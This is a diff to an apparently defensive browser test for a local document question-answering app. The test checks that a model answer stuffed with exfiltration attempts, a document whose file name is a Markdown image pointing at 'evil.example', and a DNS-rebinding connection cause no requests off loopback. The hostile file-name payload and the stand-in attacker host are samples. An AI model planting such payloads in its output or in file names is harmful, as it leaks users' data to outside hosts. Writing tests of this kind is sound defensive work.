@@ -1,23 +1,27 @@
-"""The real page in headless Chromium: upload a PDF, ask about it, see the cited page.
+"""The real page in headless Chromium, served by ``streamlit run app.py`` on loopback.
 
-Runs ``streamlit run app.py`` on a free loopback port with empty documents and
-index folders, and drives it with Selenium. Needs ``chromium`` and
-``chromedriver`` (Debian: ``apt-get install chromium chromium-driver``); without
-them the test fails and says so, it is never skipped.
+Two paths: the real models (upload a PDF, ask about it, see the cited page), and
+the scripted model writing an answer that tries every way of making the page
+load an address, while Chromium's network log shows what the page requested:
+nothing may leave 127.0.0.1. Needs ``chromium`` and ``chromedriver`` (``make
+deps`` installs them); without them the tests fail and say so, never skip.
 """
 
 from __future__ import annotations
 
+import json
 import os
 import shutil
 import subprocess
 import sys
 import time
 import urllib.request
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from pathlib import Path
+from urllib.parse import urlsplit
 
 import pytest
+import websocket
 from selenium import webdriver
 from selenium.webdriver.chrome.service import Service
 from selenium.webdriver.common.by import By
@@ -27,17 +31,25 @@ from selenium.webdriver.remote.webelement import WebElement
 from selenium.webdriver.support import expected_conditions as ec
 from selenium.webdriver.support.ui import WebDriverWait
 
-from tests.processes import free_port, stop_process
+from tests.app.test_markdown import EXFILTRATION
+from tests.processes import LOOPBACK, free_port, stop_process
 
 ROOT = Path(__file__).resolve().parents[2]
-MANUAL = ROOT / "tests" / "data" / "docs" / "manual.pdf"
+DOCS = ROOT / "tests" / "data" / "docs"
+MANUAL = DOCS / "manual.pdf"
 SCREENSHOT = ROOT / "artifacts" / "e2e-answer.png"
 QUESTION = "What is the core temperature of the Zorblax reactor?"
 START_TIMEOUT = 90
 INDEX_TIMEOUT = 240
 ANSWER_TIMEOUT = 300
+FAKES = {
+    "GPT4ALL_RAG_EMBEDDING_BACKEND": "hash",
+    "GPT4ALL_RAG_LLM_BACKEND": "scripted",
+}
+HOSTILE_NAME = "x.![](http:evil.example?q=name).md"
 
 pytestmark = pytest.mark.slow
+StartApp = Callable[[dict[str, str]], str]
 
 
 def wait_for_health(url: str, server: subprocess.Popen[bytes], log: Path) -> None:
@@ -55,30 +67,39 @@ def wait_for_health(url: str, server: subprocess.Popen[bytes], log: Path) -> Non
 
 
 @pytest.fixture
-def app_url(tmp_path: Path) -> Iterator[str]:
-    """``streamlit run app.py`` on a free loopback port, with empty tmp folders."""
-    port = free_port()
-    env = {
-        **os.environ,
-        "GPT4ALL_RAG_DOCUMENTS_DIR": str(tmp_path / "docs"),
-        "GPT4ALL_RAG_INDEX_DIR": str(tmp_path / "index"),
-    }
-    env.pop("GPT4ALL_RAG_MODEL_PATH", None)
-    (tmp_path / "docs").mkdir()
-    log = tmp_path / "streamlit.log"
-    command = [
-        sys.executable, "-m", "streamlit", "run", "app.py",
-        "--server.port", str(port), "--server.address", "127.0.0.1",
-        "--server.headless", "true", "--browser.gatherUsageStats", "false",
-    ]  # fmt: skip
-    with log.open("wb") as out:
-        server = subprocess.Popen(command, cwd=ROOT, env=env, stdout=out, stderr=subprocess.STDOUT)
-    url = f"http://127.0.0.1:{port}"
-    try:
+def start_app(tmp_path: Path) -> Iterator[StartApp]:
+    """Start ``streamlit run app.py`` (its own .streamlit/config.toml) on a free port.
+
+    Empty tmp folders; ``environment`` adds settings. Returns the page's URL.
+    """
+    servers: list[subprocess.Popen[bytes]] = []
+
+    def start(environment: dict[str, str]) -> str:
+        port = free_port()
+        (tmp_path / "docs").mkdir(exist_ok=True)
+        env = {
+            **os.environ,
+            "GPT4ALL_RAG_DOCUMENTS_DIR": str(tmp_path / "docs"),
+            "GPT4ALL_RAG_INDEX_DIR": str(tmp_path / "index"),
+            **environment,
+        }
+        env.pop("GPT4ALL_RAG_MODEL_PATH", None)
+        log = tmp_path / "streamlit.log"
+        command = [sys.executable, "-m", "streamlit", "run", "app.py", "--server.port", str(port)]
+        with log.open("wb") as out:
+            server = subprocess.Popen(
+                command, cwd=ROOT, env=env, stdout=out, stderr=subprocess.STDOUT
+            )
+        servers.append(server)
+        url = f"http://{LOOPBACK}:{port}"
         wait_for_health(url, server, log)
-        yield url
+        return url
+
+    try:
+        yield start
     finally:
-        stop_process(server, timeout=15)
+        for server in servers:
+            stop_process(server, timeout=15)
 
 
 def find_program(*names: str) -> str:
@@ -88,13 +109,13 @@ def find_program(*names: str) -> str:
             return found
     pytest.fail(
         f"{' or '.join(names)} not found: the browser test needs Chromium and its driver "
-        "(Debian/Ubuntu: apt-get install chromium chromium-driver)"
+        "(make deps; or on Debian/Ubuntu: apt-get install chromium chromium-driver)"
     )
 
 
 @pytest.fixture
 def browser(tmp_path: Path) -> Iterator[WebDriver]:
-    """Headless Chromium from the system, with a throwaway profile."""
+    """Headless Chromium from the system, with a throwaway profile and a network log."""
     options = webdriver.ChromeOptions()
     options.binary_location = find_program("chromium", "chromium-browser", "google-chrome")
     for flag in (
@@ -103,11 +124,35 @@ def browser(tmp_path: Path) -> Iterator[WebDriver]:
         "--no-first-run", "--window-size=1440,1100", f"--user-data-dir={tmp_path / 'profile'}",
     ):  # fmt: skip
         options.add_argument(flag)
+    options.set_capability("goog:loggingPrefs", {"performance": "ALL"})
     driver = webdriver.Chrome(service=Service(find_program("chromedriver")), options=options)
     try:
         yield driver
     finally:
         driver.quit()
+
+
+def requested_urls(driver: WebDriver) -> list[str]:
+    """Every URL the page asked for since the last call (requests and WebSockets)."""
+    urls: list[str] = []
+    for entry in driver.get_log("performance"):
+        message = json.loads(entry["message"])["message"]
+        params = message.get("params", {})
+        if message["method"] == "Network.requestWillBeSent":
+            urls.append(params["request"]["url"])
+        elif message["method"] == "Network.webSocketCreated":
+            urls.append(params["url"])
+    return urls
+
+
+def off_loopback(urls: list[str]) -> list[str]:
+    """The URLs that would leave this computer (data:, blob: and the browser's own never do)."""
+    local_schemes = {"data", "blob", "about", "chrome", "chrome-untrusted", "devtools"}
+    return [
+        u
+        for u in urls
+        if urlsplit(u).scheme not in local_schemes and urlsplit(u).hostname != LOOPBACK
+    ]
 
 
 def sidebar_text(driver: WebDriver) -> str:
@@ -119,8 +164,21 @@ def source_summaries(driver: WebDriver) -> list[WebElement]:
     return list(driver.find_elements(By.CSS_SELECTOR, css))
 
 
-def test_upload_ask_and_see_the_cited_page(app_url: str, browser: WebDriver) -> None:
-    browser.get(app_url)
+def send_question(driver: WebDriver, question: str) -> None:
+    box = WebDriverWait(driver, INDEX_TIMEOUT).until(
+        ec.element_to_be_clickable((By.CSS_SELECTOR, '[data-testid="stChatInputTextArea"]'))
+    )
+    box.send_keys(question)
+    box.send_keys(Keys.ENTER)
+
+
+def chat_texts(driver: WebDriver) -> list[str]:
+    css = '[data-testid="stChatMessageContent"]'
+    return [m.text for m in driver.find_elements(By.CSS_SELECTOR, css)]
+
+
+def test_upload_ask_and_see_the_cited_page(start_app: StartApp, browser: WebDriver) -> None:
+    browser.get(start_app({}))
     wait = WebDriverWait(browser, INDEX_TIMEOUT)
     wait.until(lambda d: "Indexed (0)" in sidebar_text(d))
 
@@ -129,17 +187,12 @@ def test_upload_ask_and_see_the_cited_page(app_url: str, browser: WebDriver) -> 
     upload.send_keys(str(MANUAL))
     wait.until(lambda d: "manual.pdf\n3 chunks" in sidebar_text(d))
 
-    box = wait.until(
-        ec.element_to_be_clickable((By.CSS_SELECTOR, '[data-testid="stChatInputTextArea"]'))
-    )
-    box.send_keys(QUESTION)
-    box.send_keys(Keys.ENTER)
+    send_question(browser, QUESTION)
     WebDriverWait(browser, ANSWER_TIMEOUT).until(lambda d: len(source_summaries(d)) >= 1)
 
     labels = [s.text for s in source_summaries(browser)]
     assert "manual.pdf · page 2" in labels[0], labels
-    css = '[data-testid="stChatMessageContent"]'
-    messages = [m.text for m in browser.find_elements(By.CSS_SELECTOR, css)]
+    messages = chat_texts(browser)
     assert messages[0] == QUESTION
     assert "451" in messages[1].splitlines()[0], messages[1]
 
@@ -148,6 +201,55 @@ def test_upload_ask_and_see_the_cited_page(app_url: str, browser: WebDriver) -> 
         lambda d: [m for m in d.find_elements(By.CSS_SELECTOR, "mark") if m.is_displayed()]
     )
     assert "Zorblax" in [m.text for m in marks]
+    assert off_loopback(requested_urls(browser)) == []
 
     SCREENSHOT.parent.mkdir(exist_ok=True)
     assert browser.save_screenshot(str(SCREENSHOT))
+
+
+def test_an_answer_full_of_exfiltration_attempts_requests_nothing_off_loopback(
+    start_app: StartApp, browser: WebDriver, tmp_path: Path
+) -> None:
+    # Issue 10, item 1: the scripted model writes every variant at once; issue 10, item 9:
+    # a document's name is Markdown for an image. The browser must fetch none of them.
+    hostile = "\n\n".join(EXFILTRATION.values())
+    (tmp_path / "docs").mkdir()
+    shutil.copy(MANUAL, tmp_path / "docs" / "manual.pdf")
+    (tmp_path / "docs" / HOSTILE_NAME).write_text("# Zorblax\n\nThe Zorblax core temperature.\n")
+    url = start_app({**FAKES, "GPT4ALL_RAG_SCRIPTED_REPLIES": json.dumps([hostile])})
+    requested_urls(browser)  # what the browser did on its own before the page
+    browser.get(url)
+    WebDriverWait(browser, INDEX_TIMEOUT).until(lambda d: "Indexed (2)" in sidebar_text(d))
+    requested = requested_urls(browser)
+
+    send_question(browser, QUESTION)
+    WebDriverWait(browser, ANSWER_TIMEOUT).until(lambda d: len(source_summaries(d)) >= 2)
+    for summary in source_summaries(browser):  # the passages, shown
+        browser.execute_script("arguments[0].click()", summary)
+    time.sleep(2)  # what the page would load, it loads now
+    requested += requested_urls(browser)
+
+    assert off_loopback(requested) == []
+    assert any(urlsplit(u).scheme == "ws" for u in requested)  # the log does see the page
+    answer = chat_texts(browser)[1]
+    assert "SECRET" in answer and "evil.example" in answer  # shown as text
+    # Nothing that would load or lead off this computer: images, links (a heading's
+    # anchor to itself is fine).
+    images = browser.find_elements(By.CSS_SELECTOR, "[data-testid='stChatMessage'] img")
+    links = browser.find_elements(By.CSS_SELECTOR, "[data-testid='stChatMessage'] a[href]")
+    assert [i.get_attribute("src") for i in images] == []
+    assert off_loopback([str(a.get_attribute("href")) for a in links]) == []
+    assert HOSTILE_NAME in sidebar_text(browser)
+
+
+def test_the_app_refuses_other_host_names(start_app: StartApp) -> None:
+    # Issue 10, item 4 (DNS rebinding): a page on evil.example whose name resolves to
+    # 127.0.0.1 reaches the port, but its Host header is not ours.
+    url = start_app(FAKES).replace("http://", "ws://") + "/_stcore/stream"
+
+    with pytest.raises(websocket.WebSocketBadStatusException) as refused:
+        websocket.create_connection(url, host="evil.example", suppress_origin=True, timeout=10)
+    for host in (f"localhost:{urlsplit(url).port}", f"{LOOPBACK}:{urlsplit(url).port}"):
+        websocket.create_connection(url, host=host, suppress_origin=True, timeout=10).close()
+
+    assert refused.value.status_code == 403
